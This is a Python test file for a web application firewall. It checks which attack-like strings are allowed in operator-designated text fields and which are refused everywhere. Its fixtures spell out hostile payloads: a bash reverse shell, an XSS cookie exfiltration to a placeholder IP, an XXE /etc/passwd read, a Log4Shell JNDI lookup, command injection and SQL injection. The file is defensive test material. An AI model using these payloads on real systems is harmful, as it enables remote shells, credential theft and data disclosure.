"""Parameters of which the operator says that they hold texts: only what reaches out or hides is refused there."""

from __future__ import annotations

import json

import pytest

from tests.waf.profile.world import World, request

_SHOWN = (
    "; ls -la /var/log | sort; id",
    "SELECT a FROM b WHERE c = 'd' OR 1=1 UNION SELECT name, password FROM users -- x",
    "<button onclick=\"alert('hi')\">Hi</button><script>render(1)</script>",
    "<?php echo shell_exec('git log'); ?>",
)
_REACHES = (
    "; cat /etc/passwd",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "<script>fetch('//192.0.2.1/?c=' + document.cookie)</script>",
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "${jndi:ldap://192.0.2.1/a}",
)


@pytest.fixture(scope="module", params=["standard", "advanced"])
def world(request: pytest.FixtureRequest) -> World:
    return World(preset=request.param, texts=("json.files.*.blob", "sheet"))


def _refused(world: World, text: str, name: str = "blob") -> bool:
    body = json.dumps({"files": [{"path": "a", name: text}]}).encode()
    return world.judge(request("/save", "POST", body, b"application/json"), "learning").verdict is not None


@pytest.mark.parametrize("text", _SHOWN)
def test_what_is_shown_passes_there_and_nowhere_else(world: World, text: str) -> None:
    assert not _refused(world, text)
    assert _refused(world, text, "title")


@pytest.mark.parametrize("text", _REACHES)
def test_what_reaches_out_is_refused_there_too(world: World, text: str) -> None:
    assert _refused(world, text)
